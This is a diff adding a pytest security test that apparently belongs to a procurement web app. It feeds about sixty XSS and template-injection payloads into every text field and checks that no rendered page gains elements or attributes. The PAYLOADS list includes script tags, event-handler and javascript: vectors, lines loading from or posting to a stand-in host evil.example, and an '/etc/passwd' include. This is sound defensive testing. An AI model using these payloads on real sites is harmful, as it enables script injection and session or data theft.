@@ -1,0 +1,296 @@
+"""T18: no text that people fill in becomes an element or an attribute of any page.
+
+Two consultations of one shape, one whose every text is hostile: their pages must parse to the same
+elements with the same attributes. The control renders the same pages without escaping.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import dataclass
+from html.parser import HTMLParser
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+from doubles.bench import BUYER, SOON, Bench
+from doubles.pages import page_routes
+from doubles.proofs import Proof
+from starlette.routing import Route
+from starlette.testclient import TestClient
+
+import api.web.rendering
+from api.pages import build
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "</title><script>alert(2)</script>",
+    "</textarea><script>alert(3)</script>",
+    "</style><script>alert(4)</script>",
+    "--><script>alert(5)</script><!--",
+    "<!--><script>alert(6)</script>",
+    "]]><script>alert(7)</script>",
+    "<scr<script>ipt>alert(8)</scr</script>ipt>",
+    "<script/x>alert(9)</script/x>",
+    "<script\t>alert(10)</script>".replace("\t", " "),
+    "<img src=x onerror=alert(11)>",
+    "<img src=x onerror='alert(12)'//",
+    '"><img src=x onerror=alert(13)>',
+    "'><img src=x onerror=alert(14)>",
+    "<img/src/onerror=alert(15)>",
+    "<svg onload=alert(16)>",
+    "<svg><script>alert(17)</script></svg>",
+    "<svg><animate onbegin=alert(18) attributeName=x>",
+    "<svg><a xlink:href=javascript:alert(19)><text>x</text></a></svg>",
+    "<math><mi xlink:href=javascript:alert(20)>x</mi></math>",
+    "<iframe src=javascript:alert(21)></iframe>",
+    "<iframe srcdoc='<script>alert(22)</script>'></iframe>",
+    "<object data=javascript:alert(23)></object>",
+    "<embed src=javascript:alert(24)>",
+    "<a href=javascript:alert(25)>x</a>",
+    "<a href='java&#115;cript:alert(26)'>x</a>",
+    "javascript:alert(27)",
+    "data:text/html,<script>alert(28)</script>",
+    "<form action=//evil.example><input name=p></form>",
+    "<button formaction=javascript:alert(30)>x</button>",
+    "<input autofocus onfocus=alert(31)>",
+    "<details open ontoggle=alert(32)>",
+    "<body onload=alert(33)>",
+    "<marquee onstart=alert(34)>",
+    "<video><source onerror=alert(35)></video>",
+    "<audio src=x onerror=alert(36)>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<div style=background:url(javascript:alert(42))>",
+    '" onmouseover="alert(43)',
+    "' onmouseover='alert(44)",
+    '" autofocus onfocus="alert(45)" x="',
+    "` onmouseover=alert(46) `",
+    "x onclick=alert(47)",
+    '" hx-get="//evil.example" hx-trigger="load',
+    "{{7*7}}{% raw %}{{config}}{% endraw %}",
+    "{% include '/etc/passwd' %}",
+    "${alert(51)}#{alert(51)}<%= 7*7 %>",
+    "&lt;script&gt;alert(52)&lt;/script&gt;",
+    "&#60;script&#62;alert(53)&#60;/script&#62;",
+    "%3Cscript%3Ealert(54)%3C/script%3E",
+    "＜script＞alert(55)＜/script＞",
+    "<template><script>alert(56)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(57)>'>",
+    "<table background=javascript:alert(58)><tr><td>x",
+    "\\u003cscript\\u003ealert(59)\\u003c/script\\u003e",
+    "';alert(60)//\\';alert(60)//\";alert(60)//-->",
+]
+REFUSED = ["<img \x00src=x onerror=alert(1)>", "\u202e<script>"]
+NAMES = [text.replace("/", "⁄").replace("\\", "⧵") for text in PAYLOADS]
+
+
+FORM_HEAD = "--x\r\nContent-Disposition: form-data; name=text\r\n\r\n"
+
+
+class Structure(HTMLParser):
+    """The elements of a page with the names of their attributes, and its texts."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, tuple[str, ...]]] = []
+        self.texts: list[str] = []
+        self.dangerous: list[str] = []
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, tuple(name for name, _ in attrs)))
+        for name, value in attrs:
+            link = (value or "").strip().lower()
+            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
+                self.dangerous.append(name)
+            if name in {"href", "src", "action"} and not link.startswith(("/", "#", "?")):
+                self.dangerous.append(f"{name}={link}")
+
+    def handle_data(self, data: str) -> None:
+        self.texts.append(data)
+
+
+@dataclass
+class Two:
+    """One hostile and one plain consultation of the same shape, and the pages over them."""
+
+    bench: Bench
+    pages: TestClient
+
+
+def plain(number: int) -> str:
+    return f"Texte ordinaire {number}"
+
+
+def texts(*, hostile: bool) -> list[str]:
+    return PAYLOADS if hostile else [plain(number) for number in range(len(PAYLOADS))]
+
+
+def joined(rows: list[str]) -> str:
+    return " ".join(rows)[:3_900]
+
+
+def consultation(bench: Bench, name: str, *, hostile: bool) -> None:
+    """Fill every text of a consultation, from its draft to its opening."""
+    rows = texts(hostile=hostile)
+    at, buyer = f"/api/v1/consultations/{name}", bench.tokens.buyer
+    form = {
+        "id": name,
+        "reference": rows[0],
+        "object": joined(rows),
+        "nature": "WORKS",
+        "procedure": "ADAPTED",
+        "cpv": "45261910",
+        "place": "FRE11",
+        "estimated_cents": 9_000_000,
+    }
+    bench.done("/api/v1/consultations", buyer, form)
+    for number, title in enumerate(rows, 1):
+        lot = {"lot": f"{number:03}", "title": title, "estimated_cents": 1_000}
+        bench.done(f"{at}/lots", buyer, lot)
+    weights = [10_000 - 100 * (len(rows) - 1), *[100] * (len(rows) - 1)]
+    criteria = [{"name": text, "weight_bp": bp} for text, bp in zip(rows, weights, strict=True)]
+    form = {"criteria": criteria, "price_formula": "PROPORTIONAL"}
+    bench.done(f"{at}/criteria", buyer, form)
+    bench.done(f"{at}/limits", buyer, {"max_file": 5_000_000, "formats": rows})
+    bench.done(f"{at}/deposit-policy", buyer, {"complements": "ALL", "paper_exceptions": rows})
+    hours = {"questions_until": {"local": bench.deadline}, "deadline": {"local": bench.deadline}}
+    bench.done(f"{at}/calendar", buyer, hours)
+    named = NAMES if hostile else [f"piece {number}.pdf" for number in range(len(rows))]
+    put = bench.http.put(
+        f"{at}/dossier/files/{quote(named[0], safe='')}",
+        content=b"%PDF",
+        headers={"Authorization": f"Bearer {buyer}"},
+    )
+    files = [{"name": each, "sha256": put.json()["sha256"]} for each in named]
+    bench.done(f"{at}/dossier", buyer, {"files": files})
+    bench.done(f"{at}/ceremony", buyer)
+    bench.done(f"{at}/canary", buyer)
+    bench.done(f"{at}/publication", buyer, {"notice_ids": rows})
+    reason = {"reason": joined(rows)}
+    later = {"deadline": {"local": "2026-11-12T13:00"}, "triggered_by": rows[0]}
+    bench.done(f"{at}/extensions", buyer, later | reason)
+    bench.done(f"{at}/corrections/limits", buyer, {"max_file": 6_000_000} | reason)
+    correction = {"files": files, "importance": "MINOR"}
+    bench.done(f"{at}/dossier/corrections", buyer, correction | reason)
+    bench.done(f"{at}/suspensions", buyer, reason)
+    bench.done(f"{at}/resumptions", buyer, {"deadline": {"local": "2026-11-12T14:00"}})
+
+
+@pytest.fixture(scope="module")
+def two(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Two]:
+    bench = Bench(tmp_path_factory.mktemp("script"))
+    for siret, name in ((BUYER, joined(PAYLOADS)[:290]),):
+        form = {"siret": siret, "name": name, "buyer_kind": "COMMUNE"}
+        bench.done("/api/v1/buyers", bench.tokens.admin, form)
+    consultation(bench, "hostile", hostile=True)
+    consultation(bench, "plain", hostile=False)
+    bench.forward(SOON)
+    for name in ("hostile", "plain"):
+        at = f"/api/v1/openings/{name}/001"
+        members = PAYLOADS if name == "hostile" else [plain(n) for n in range(len(PAYLOADS))]
+        bench.done(f"{at}/convocation", bench.tokens.buyer, {"members": members})
+        for member in members[:2]:
+            bench.done(f"{at}/presences", bench.tokens.buyer, {"member": member})
+    bench.platform.views.catch_up()
+    yield Two(bench, TestClient(build(bench.platform), raise_server_exceptions=False))
+    bench.close()
+
+
+def addresses(two: Two) -> list[str]:
+    """Return the address of each page about a consultation, with NAME in its place."""
+    pages = page_routes(build(two.bench.platform))
+    paths = [page.path for page in pages if isinstance(page, Route)]
+    found = [path for path in paths if path.startswith(("/consultations/", "/openings/"))]
+    named = [path.replace("{consultation}", "{name}").replace("{lot}", "001") for path in found]
+    return [path.replace("{name}", "NAME") for path in named]
+
+
+def structures(pages: TestClient, path: str, **headers: str) -> tuple[Structure, Structure]:
+    found = []
+    for name in ("hostile", "plain"):
+        answer = pages.get(path.replace("NAME", name), headers=headers)
+        assert answer.status_code == 200, (path, answer.status_code)
+        found.append(Structure(answer.text))
+    return found[0], found[1]
+
+
+def test_no_text_becomes_an_element_or_an_attribute(two: Two, proof: Proof) -> None:
+    assert len(PAYLOADS) >= 50
+    pages = addresses(two)
+    assert len(pages) >= 3, pages
+    shown = ""
+    for path in pages:
+        for language in ("fr", "en"):
+            hostile, ordinary = structures(two.pages, path, **{"Accept-Language": language})
+            assert hostile.elements == ordinary.elements, path
+            assert hostile.dangerous == ordinary.dangerous == [], path
+            shown += "".join(hostile.texts)
+    assert not [text for text in PAYLOADS if text not in shown], "a text that no page shows"
+    proof("T18", f"{len(PAYLOADS)} payloads x every text field, {2 * len(pages)} pages, 0 elements")
+
+
+def test_pages_about_nothing_show_nothing_of_what_was_asked(two: Two) -> None:
+    for path in ("/", "/ledger", "/receipt", "/accessibility"):
+        assert Structure(two.pages.get(path).text).dangerous == []
+    lists = Structure(two.pages.get("/").text)
+    known = {tag for tag, _ in Structure(two.pages.get("/consultations/plain").text).elements}
+    assert {tag for tag, _ in lists.elements} <= known | {
+        "article",
+        "button",
+        "form",
+        "input",
+        "label",
+        "option",
+        "select",
+    }
+    absent = Structure(two.pages.get("/nothing").text).elements
+    for text in PAYLOADS:
+        asked = quote(text, safe="")
+        for path in (f"/consultations/{asked}", f"/problems/{asked}", f"/nothing?lang={asked}"):
+            answer = two.pages.get(path)
+            assert Structure(answer.text).elements == absent, path
+        sent = two.pages.post(
+            "/receipt",
+            content=f"{FORM_HEAD}{text}\r\n--x--".encode(),
+            headers={"Content-Type": "multipart/form-data; boundary=x"},
+        )
+        assert Structure(sent.text).dangerous == [], text
+
+
+def test_data_that_holds_them_is_never_taken_for_a_page(two: Two) -> None:
+    for path in ("", "/dossier", "/kit", "/dossier/files/nothing"):
+        answer = two.bench.get(f"/api/v1/consultations/hostile{path}")
+        assert answer.headers["content-type"] in {"application/json", "application/problem+json"}
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        assert "sandbox" in answer.headers["content-security-policy"]
+    for text in PAYLOADS[:3]:
+        answer = two.bench.post("/api/v1/buyers", two.bench.tokens.admin, {text: text})
+        assert answer.status_code == 422
+        assert answer.headers["x-content-type-options"] == "nosniff"
+
+
+@pytest.mark.parametrize("text", REFUSED)
+def test_signs_that_hide_or_turn_are_refused_before(two: Two, text: str) -> None:
+    form = {"siret": "21590350100017", "name": text, "buyer_kind": "COMMUNE"}
+    assert two.bench.post("/api/v1/buyers", two.bench.tokens.admin, form).status_code == 422
+
+
+def test_the_control_without_escaping_is_seen(two: Two, monkeypatch: pytest.MonkeyPatch) -> None:
+    made = api.web.rendering.environment
+
+    def careless(*given: Any) -> Any:
+        found = made(*given)
+        found.autoescape = False
+        return found
+
+    monkeypatch.setattr(api.web.rendering, "environment", careless)
+    pages = TestClient(build(two.bench.platform), raise_server_exceptions=False)
+    hostile, ordinary = structures(pages, "/consultations/NAME")
+    assert hostile.elements != ordinary.elements
+    assert len(hostile.dangerous) > 10
